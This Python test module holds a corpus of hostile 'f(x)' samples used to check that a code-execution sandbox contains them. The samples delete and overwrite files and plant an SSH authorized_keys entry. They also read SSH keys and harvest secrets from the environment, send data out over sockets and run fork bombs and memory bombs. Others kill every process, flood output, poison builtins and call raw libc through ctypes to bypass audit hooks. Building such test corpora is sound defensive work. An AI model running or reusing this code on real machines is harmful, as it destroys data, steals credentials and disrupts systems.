"""The hostile-code corpus: generated "alternatives" and "user functions" that attack the machine.

Every entry defines ``f(x)``, the function under test (honest versions return ``3 * x + 1``).
The rule every entry follows: **it returns normally only when its attack worked** (and then it
returns what it stole or did), otherwise it raises, crashes or hangs.  So an outcome of kind "ok"
from an entry whose ``expect`` is "raise" is itself evidence of an escape, on top of the machine
checks the tests make (canary files, the secret, the loopback listener, leftover processes).

Placeholders, filled in by the test (``render``):

    @@TMP@@      a directory outside the sandbox with a canary file ``canary.txt`` (0644 in 0755)
    @@WS@@       the workspace directory (the module's file and a ``data.txt`` live there)
    @@HOME@@     a fake ``~/.ssh`` in the real home directory, with ``id_rsa`` (0600)
    @@PORT@@     a TCP port on 127.0.0.1 the test listens on (it must receive no connection)
    @@UDP@@      a UDP port on 127.0.0.1 the test listens on (it must receive no datagram)
    @@ESCAPE@@   a unique file name the entry tries to create in /tmp, /var/tmp, /dev/shm
    @@SECRET@@   the environment variable holding the secret canary (an API key)

``side``: "alternative" (one program among honest alternatives and the honest user function) or
"user" (the module under check defines the hostile ``f``; every alternative is honest).
``expect``: "raise" (every outcome must be a raise: crash, timeout, blocked call) or "any" (the
entry returns odd values by design: huge, cyclic, unpicklable objects; their outcome may be "ok"
but must stay small).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    name: str
    category: str
    side: str  # "alternative" | "user"
    source: str
    expect: str = "raise"  # "raise" | "any"
    must: str = ""  # what must hold afterwards, beyond the checks every entry gets
    lsp: bool = False  # one of the nastiest: also run through the language server


# ctypes helpers most entries share: raw libc calls bypass Python's audit hooks entirely
LIBC = """
import ctypes, ctypes.util, os
libc = ctypes.CDLL(None, use_errno=True)
def check(rc, what):
    if rc < 0:
        raise OSError(ctypes.get_errno(), what)
    return rc
"""

CORPUS: list[Hostile] = [
    # -- files outside the sandbox, the workspace ------------------------------------------
    Hostile(
        "overwrite_tmp_canary",
        "files",
        "alternative",
        """
def f(x):
    with open("@@TMP@@/canary.txt", "w") as fh:
        fh.write("pwned")
    return "wrote"
""",
        must="canary.txt unchanged",
    ),
    Hostile(
        "delete_tmp_canary",
        "files",
        "user",
        """
import os, shutil
def f(x):
    os.remove("@@TMP@@/canary.txt")
    shutil.rmtree("@@TMP@@")
    return "deleted"
""",
        must="canary dir intact",
    ),
    Hostile(
        "ctypes_write_tmp_canary",
        "files",
        "alternative",
        LIBC
        + """
def f(x):
    fd = check(libc.open(b"@@TMP@@/canary.txt", os.O_WRONLY | os.O_TRUNC), "open")
    libc.write(fd, b"pwned", 5)
    return "wrote"
""",
    ),
    Hostile(
        "ctypes_unlink_tmp_canary",
        "files",
        "alternative",
        LIBC
        + """
def f(x):
    check(libc.unlink(b"@@TMP@@/canary.txt"), "unlink")
    return "deleted"
""",
    ),
    Hostile(
        "write_workspace",
        "files",
        "user",
        """
def f(x):
    open("@@WS@@/data.txt", "a").write("pwned")
    open("@@WS@@/new_file.py", "w").write("print('pwned')")
    return "wrote"
""",
        must="workspace byte-identical",
    ),
    Hostile(
        "rmtree_workspace",
        "files",
        "alternative",
        """
import shutil, os
def f(x):
    shutil.rmtree("@@WS@@")
    return os.path.exists("@@WS@@")
""",
    ),
    Hostile(
        "ctypes_write_workspace",
        "files",
        "alternative",
        LIBC
        + """
def f(x):
    fd = check(libc.open(b"@@WS@@/evil.py", os.O_WRONLY | os.O_CREAT, 0o644), "open")
    check(libc.rename(b"@@WS@@/data.txt", b"@@WS@@/moved.txt"), "rename")
    return fd
""",
    ),
    Hostile(
        "ctypes_world_writable_dirs",
        "files",
        "alternative",
        LIBC
        + """
def f(x):
    made = []
    for d in (b"/tmp", b"/var/tmp", b"/dev/shm"):
        fd = libc.open(d + b"/@@ESCAPE@@", os.O_WRONLY | os.O_CREAT, 0o644)
        if fd >= 0:
            made.append(d.decode())
    if not made:
        raise PermissionError("nothing written")
    return made
""",
        must="no @@ESCAPE@@ in /tmp, /var/tmp, /dev/shm",
    ),
    Hostile(
        "home_ssh_write",
        "files",
        "alternative",
        LIBC
        + """
def f(x):
    fd = check(libc.open(b"@@HOME@@/authorized_keys", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600), "open")
    libc.write(fd, b"ssh-rsa AAAA attacker", 21)
    return "planted"
""",
        must="no authorized_keys planted in ~/.ssh",
    ),
    # -- secrets -------------------------------------------------------------------------
    Hostile(
        "read_ssh_key",
        "secrets",
        "alternative",
        """
import os
def f(x):
    return open(os.path.expanduser("~/.ssh/id_rsa")).read() + open("@@HOME@@/id_rsa").read()
""",
        must="the key never appears in an outcome",
    ),
    Hostile(
        "ctypes_read_ssh_key",
        "secrets",
        "alternative",
        LIBC
        + """
def f(x):
    fd = check(libc.open(b"@@HOME@@/id_rsa", os.O_RDONLY), "open")
    buf = ctypes.create_string_buffer(4096)
    n = check(libc.read(fd, buf, 4096), "read")
    return buf.raw[:n].decode()
""",
    ),
    Hostile(
        "read_environment",
        "secrets",
        "user",
        """
import os
def f(x):
    found = {k: v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k or "TOKEN" in k or v.startswith("sk-")}
    found.update({"self": open("/proc/self/environ").read()})
    if "sk-" not in repr(found):
        raise LookupError("no secret visible")
    return found
""",
        must="the secret env var is not visible",
    ),
    Hostile(
        "ctypes_proc_environ_scan",
        "secrets",
        "alternative",
        LIBC
        + """
def f(x):
    got = []
    buf = ctypes.create_string_buffer(1 << 16)
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        fd = libc.open(("/proc/%s/environ" % name).encode(), os.O_RDONLY)
        if fd < 0:
            continue
        n = libc.read(fd, buf, 1 << 16)
        libc.close(fd)
        if n > 0 and b"@@SECRET@@" in buf.raw[:n]:
            got.append(buf.raw[:n].decode("latin-1"))
    if not got:
        raise LookupError("no environ readable")
    return got
""",
    ),
    # -- network -------------------------------------------------------------------------
    Hostile(
        "socket_loopback",
        "network",
        "alternative",
        """
import socket
def f(x):
    s = socket.create_connection(("127.0.0.1", @@PORT@@), timeout=0.3)
    s.sendall(b"hello from the sandbox")
    return "connected"
""",
        must="the loopback listener sees no connection",
    ),
    Hostile(
        "ctypes_socket_loopback",
        "network",
        "alternative",
        LIBC
        + """
import socket, struct
def f(x):
    s = check(libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0), "socket")
    addr = struct.pack("!HH4s8x", socket.AF_INET, @@PORT@@, bytes([127, 0, 0, 1]))
    addr = struct.pack("=H", socket.AF_INET) + addr[2:]
    check(libc.connect(s, addr, len(addr)), "connect")
    libc.write(s, b"escaped", 7)
    u = check(libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0), "socket")
    uaddr = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", @@UDP@@, bytes([127, 0, 0, 1]))
    check(libc.sendto(u, b"escaped", 7, 0, uaddr, len(uaddr)), "sendto")
    return "connected"
""",
        must="no TCP connection, no UDP datagram on loopback",
    ),
    Hostile(
        "socket_external",
        "network",
        "user",
        """
import socket
def f(x):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrate", ("127.0.0.1", @@UDP@@))
    u.sendto(b"exfiltrate", ("8.8.8.8", 53))
    s = socket.create_connection(("1.1.1.1", 80), timeout=0.3)
    return "connected"
""",
    ),
    # -- processes -----------------------------------------------------------------------
    Hostile(
        "subprocess_shell",
        "processes",
        "alternative",
        """
import subprocess
def f(x):
    return subprocess.run("touch /tmp/@@ESCAPE@@; sleep 60 & echo ok", shell=True, capture_output=True).stdout
""",
    ),
    Hostile(
        "os_system",
        "processes",
        "user",
        """
import os
def f(x):
    rc = os.system("touch /tmp/@@ESCAPE@@; (sleep 60 &)")
    return rc
""",
    ),
    Hostile(
        "fork_bomb",
        "processes",
        "alternative",
        """
import os
def f(x):
    while True:
        os.fork()
""",
        must="no process left behind",
        lsp=True,
    ),
    Hostile(
        "ctypes_fork_bomb",
        "processes",
        "alternative",
        LIBC
        + """
def f(x):
    n = 0
    while n < 100000:
        pid = libc.fork()
        if pid == 0:
            libc.setsid()
            while True:
                libc.fork()
        if pid > 0:
            n += 1
        else:
            break
    if n == 0:
        raise OSError(ctypes.get_errno(), "fork")
    return n
""",
        must="contained: no process left behind",
    ),
    Hostile(
        "ctypes_exec_sleep",
        "processes",
        "alternative",
        LIBC
        + """
def f(x):
    argv = (ctypes.c_char_p * 3)(b"/bin/sleep", b"60", None)
    libc.execv(b"/bin/sleep", argv)
    raise OSError(ctypes.get_errno(), "execv")
""",
    ),
    # -- resources -----------------------------------------------------------------------
    Hostile(
        "memory_bomb",
        "resources",
        "alternative",
        """
def f(x):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
""",
        lsp=True,
    ),
    Hostile(
        "infinite_loop",
        "resources",
        "user",
        """
def f(x):
    while True:
        pass
""",
    ),
    Hostile(
        "deep_recursion",
        "resources",
        "alternative",
        """
import sys
sys.setrecursionlimit(10 ** 8)
def f(x):
    return f(x + 1) + 1
""",
    ),
    Hostile(
        "os_exit",
        "resources",
        "alternative",
        """
import os
def f(x):
    os._exit(0)
""",
    ),
    Hostile(
        "sys_exit",
        "resources",
        "user",
        """
import sys
def f(x):
    sys.exit(0)
""",
    ),
    # -- signals and the parent ----------------------------------------------------------
    Hostile(
        "kill_parent",
        "signals",
        "alternative",
        """
import os, signal
def f(x):
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    return "parent killed"
""",
        must="the worker and the server survive",
        lsp=True,
    ),
    Hostile(
        "ctypes_kill_everything",
        "signals",
        "alternative",
        LIBC
        + """
import signal
def f(x):
    libc.kill(os.getppid(), signal.SIGKILL)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            libc.kill(int(name), signal.SIGKILL)
    libc.kill(-1, signal.SIGKILL)  # everything this uid may signal
    raise OSError("still here")
""",
        must="other programs' results intact",
        lsp=True,
    ),
    Hostile(
        "ignore_signals",
        "signals",
        "alternative",
        """
import signal
def f(x):
    for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
        signal.signal(s, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM})
    while True:
        pass
""",
    ),
    # -- native crashes ------------------------------------------------------------------
    Hostile(
        "ctypes_segfault",
        "crash",
        "alternative",
        """
import ctypes
def f(x):
    return ctypes.string_at(0)
""",
    ),
    Hostile(
        "c_extension_crash",
        "crash",
        "user",
        """
import faulthandler, os
faulthandler.disable()
def f(x):
    if x % 2:
        faulthandler._read_null()
    os.abort()
""",
    ),
    # -- output floods -------------------------------------------------------------------
    Hostile(
        "stdout_flood",
        "flood",
        "alternative",
        """
import sys, os
def f(x):
    chunk = "A" * (1 << 20)
    for _ in range(200):
        sys.stdout.write(chunk)
        print(chunk)
    for _ in range(100):
        os.write(1, chunk.encode())
    raise RuntimeError("flooded")
""",
        must="bounded by the output cap",
        lsp=True,
    ),
    Hostile(
        "stderr_flood",
        "flood",
        "user",
        """
import sys, os
def f(x):
    chunk = b"E" * (1 << 20)
    for _ in range(150):
        os.write(2, chunk)
        sys.stderr.write("E" * (1 << 20))
    sys.__stderr__.write("E" * (100 << 20))
    raise RuntimeError("flooded")
""",
    ),
    Hostile(
        "result_pipe_flood",
        "flood",
        "alternative",
        """
import os
def f(x):
    chunk = b"Z" * (1 << 20)
    for fd in range(3, 64):
        try:
            for _ in range(400):
                os.write(fd, chunk)
        except OSError:
            pass
    raise RuntimeError("flooded")
""",
        must="the worker's result channel survives a flood without newlines",
    ),
    # -- poisoning -----------------------------------------------------------------------
    Hostile(
        "poison_builtins",
        "poison",
        "alternative",
        """
import builtins
def f(x):
    builtins.len = lambda o: 42
    builtins.isinstance = lambda *a: False
    builtins.repr = lambda o: "poisoned"
    builtins.int = float
    builtins.print = None
    raise RuntimeError("poisoned")
""",
        must="later calls of the other programs unaffected",
    ),
    Hostile(
        "poison_sys_modules",
        "poison",
        "user",
        """
import sys, json, struct, os
def f(x):
    json.dumps = lambda *a, **k: "poisoned"
    sys.modules["json"] = None
    struct.pack_into = lambda *a: None
    os.write = lambda fd, data: len(data)
    sys.modules["os"] = sys
    raise RuntimeError("poisoned")
""",
    ),
    Hostile(
        "forge_results",
        "poison",
        "alternative",
        """
import os
FORGED = (b'0 0 ["ok",["S","forged"],null,null]\\n0 1 ["ok",["S","forged"],null,null]\\n'
          b'1 0 ["ok",["S","forged"],null,null]\\n4 0 ["ok",["S","forged"],null,null]\\n'
          b'3 0 {}\\n3 1 [[[[[[[[[[' + b'[' * 100000 + b'\\n'
          b'-1 0 "forged module error"\\n-1 2 null\\n')
def f(x):
    for fd in range(3, 64):
        try:
            os.write(fd, FORGED)
        except OSError:
            pass
    raise RuntimeError("forged")
""",
        must="forged lines for other programs are ignored",
    ),
    Hostile(
        "forge_own_malformed",
        "poison",
        "alternative",
        r"""
import os
BAD = [b'["ok",{"weird":[1,2]},[5],null]', b'["ok",["I","zz"],null,null]', b'["ok",["Q",1,2],["L",7],null]',
       b'["ok",["F","nan?"],null,null]', b'["ok",["D",[[1]]],null,null]', b'["raise",null,null,{"x":1}]']
LINES = b"".join(b"%d %d %s\n" % (t, i, BAD[(t + i) % len(BAD)]) for t in range(16) for i in range(64))
def f(x):
    for fd in range(3, 64):
        try:
            os.write(fd, LINES)
        except OSError:
            pass
    return 3 * x + 1
""",
        expect="any",
        must="malformed records for its own task break nothing downstream",
    ),
    # -- time ----------------------------------------------------------------------------
    Hostile(
        "sleep_past_timeout",
        "time",
        "alternative",
        """
import time
def f(x):
    time.sleep(3600)
    return "woke"
""",
    ),
    Hostile(
        "daemon_thread",
        "time",
        "alternative",
        """
import threading, time
def f(x):
    def linger():
        while True:
            open("/tmp/@@ESCAPE@@", "a").write("still alive\\n")
            time.sleep(0.05)
    threading.Thread(target=linger, daemon=True).start()
    return "spawned"
""",
    ),
    Hostile(
        "blocked_alarm_sleep",
        "time",
        "user",
        """
import signal, time
def f(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    time.sleep(3600)
    return "woke"
""",
    ),
    # -- return values -------------------------------------------------------------------
    Hostile(
        "unpicklable_return",
        "objects",
        "alternative",
        """
import threading
def f(x):
    gen = (i for i in range(3))
    return [lambda: x, threading.Lock(), gen, open("/dev/null"), f]
""",
        expect="any",
    ),
    Hostile(
        "self_referential_return",
        "objects",
        "alternative",
        """
def f(x):
    a = [x]
    a.append(a)
    d = {"self": None}
    d["self"] = d
    deep = []
    for _ in range(200000):
        deep = [deep]
    return [a, d, deep]
""",
        expect="any",
    ),
    Hostile(
        "gigantic_return",
        "objects",
        "user",
        """
def f(x):
    if x % 2:
        return "S" * (300 << 20)
    return list(range(5_000_000))
""",
        expect="any",
        must="the outcome is a small digest",
    ),
    Hostile(
        "hostile_dunders",
        "objects",
        "alternative",
        """
class Evil:
    def __repr__(self):
        while True:
            pass
    def __eq__(self, other):
        raise SystemExit(3)
    def __hash__(self):
        import os
        os._exit(9)
    def __getattr__(self, name):
        while True:
            pass
def f(x):
    return Evil()
""",
        expect="any",
    ),
    # -- __del__ and atexit --------------------------------------------------------------
    Hostile(
        "del_and_atexit",
        "finalizers",
        "alternative",
        """
import atexit, os
atexit.register(lambda: open("/tmp/@@ESCAPE@@", "w").write("atexit"))
class Bomb:
    def __del__(self):
        try:
            open("/tmp/@@ESCAPE@@", "w").write("del")
        finally:
            os._exit(11)
def f(x):
    return Bomb()
""",
        expect="any",
    ),
    Hostile(
        "del_hang_after_last_call",
        "finalizers",
        "alternative",
        """
import sys
class Hang:
    def __del__(self):
        while True:
            pass
KEEP = []
def f(x):
    KEEP.append(Hang())
    sys.modules["__hang__"] = Hang()
    raise RuntimeError("left finalizers behind")
""",
    ),
]

# section 2 of issue 28: the kernel-level entries (after Hostile and LIBC, which they import)
from tests.hostile.corpus_kernel import KERNEL  # noqa: E402

CORPUS += KERNEL
NAMES = [h.name for h in CORPUS]
assert len(set(NAMES)) == len(NAMES)
# The first entry of each attack class: the default test run's representatives (the rest of the
# corpus runs in the slow run, which CI includes).
REPRESENTATIVES = frozenset({h.category: h.name for h in reversed(CORPUS)}.values())


def render(entry: Hostile, values: dict[str, str]) -> str:
    src = entry.source
    for key, value in values.items():
        src = src.replace("@@%s@@" % key, str(value))
    assert "@@" not in src, entry.name
    return src
